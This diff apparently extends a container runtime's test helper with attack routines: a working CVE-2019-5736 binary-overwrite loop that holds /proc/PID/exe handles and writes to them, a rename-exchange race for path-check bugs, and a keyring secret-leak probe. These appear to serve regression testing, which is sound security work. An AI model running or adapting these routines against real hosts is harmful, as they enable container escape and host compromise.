@@ -10,6 +10,7 @@
 #include <limits.h>
 #include <signal.h>
 #include <stdint.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -392,6 +393,131 @@ static int notify(int argc, char **argv)
 	return 0;
 }
 
+/* A file that somebody executes, held open, and what is tried with it once he has ended. */
+struct prey {
+	dev_t dev;
+	ino_t ino;
+	int fd;
+	char link[128];
+};
+
+static bool overwritten(const struct prey *p)
+{
+	char path[64];
+	int fd;
+	bool won;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", p->fd);
+	(void)chmod(path, 0777);
+	fd = open(path, O_WRONLY);
+	if (fd < 0)
+		return false;
+	won = pwrite(fd, "won", 3, 0) == 3 || ftruncate(fd, 0) == 0;
+	close(fd);
+	return won;
+}
+
+static bool is_prey(const char *link)
+{
+	static const char *const names[] = { "cay", "cay-init", "memfd:cay-init", "naive" };
+	const char *base = strrchr(link, '/') ? strrchr(link, '/') + 1 : link;
+	size_t n = strcspn(base, " ");
+
+	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
+		if (strlen(names[i]) == n && !strncmp(base, names[i], n))
+			return true;
+	return false;
+}
+
+static void hold_program(const char *pid, struct prey *held, unsigned *count, unsigned room)
+{
+	struct prey *p = &held[*count % room], new;
+	char path[320];
+	struct stat st;
+	ssize_t n;
+
+	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+	new.fd = open(path, O_RDONLY | O_CLOEXEC);
+	if (new.fd < 0)
+		return;
+	/* The name of what was opened: meanwhile he may execute another. */
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", new.fd);
+	n = readlink(path, new.link, sizeof(new.link) - 1);
+	new.link[n < 0 ? 0 : n] = '\0';
+	fstat(new.fd, &st);
+	new.dev = st.st_dev;
+	new.ino = st.st_ino;
+	for (unsigned i = 0; i < room && i < *count; i++)
+		if (held[i].dev == new.dev && held[i].ino == new.ino) {
+			close(new.fd);
+			return;
+		}
+	/* Nobody else's programs, whatever this is run on. */
+	if (!is_prey(new.link)) {
+		close(new.fd);
+		return;
+	}
+	if (*count >= room)
+		close(p->fd);
+	*p = new;
+	++*count;
+	printf("saw %s\n", new.link);
+}
+
+/* CVE-2019-5736: hold the programs of all that come by, and write to them when they are gone. */
+static int overwrite(int argc, char **argv)
+{
+	static struct prey held[64];
+	enum { ROOM = sizeof(held) / sizeof(*held) };
+	struct timespec now, end;
+	unsigned count = 0;
+
+	(void)argc;
+	clock_gettime(CLOCK_MONOTONIC, &end);
+	end.tv_sec += atoi(argv[2]);
+	setlinebuf(stdout);
+	puts("ready");
+	do {
+		DIR *d = opendir("/proc");
+		struct dirent *ent;
+
+		while (d && (ent = readdir(d)))
+			if (atoi(ent->d_name) > 0 && atoi(ent->d_name) != getpid())
+				hold_program(ent->d_name, held, &count, ROOM);
+		if (d)
+			closedir(d);
+		for (unsigned i = 0; i < ROOM && i < count; i++)
+			if (overwritten(&held[i]))
+				printf("won %s\n", held[i].link);
+		clock_gettime(CLOCK_MONOTONIC, &now);
+	} while (now.tv_sec < end.tv_sec);
+	puts("end");
+	return 0;
+}
+
+/* Exchange two names until killed: whoever checks a path and uses it later loses. */
+static int flip(int argc, char **argv)
+{
+	(void)argc;
+	while (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0)
+		;
+	return 1;
+}
+
+/* add NAME PROGRAM…: runs it with a session keyring that holds a key · find NAME */
+static int key(int argc, char **argv)
+{
+	if (!strcmp(argv[2], "add")) {
+		if (syscall(SYS_keyctl, 1, NULL) < 0 ||
+		    syscall(SYS_add_key, "user", argv[3], "secret", 6, -3) < 0)
+			return answer(-1), 1;
+		execvp(argv[4], argv + 4);
+		return 1;
+	}
+	(void)argc;
+	return answer(syscall(SYS_keyctl, 10, -3, "user", argv[3], 0)), 0;
+}
+
 static const struct {
 	const char *name;
 	int (*plain)(void);
@@ -418,6 +544,9 @@ static const struct {
 	{ "lock", NULL, hold_lock },
 	{ "notify", NULL, notify },
 	{ "deep", NULL, deep },
+	{ "overwrite", NULL, overwrite },
+	{ "flip", NULL, flip },
+	{ "key", NULL, key },
 };
 
 int main(int argc, char **argv)
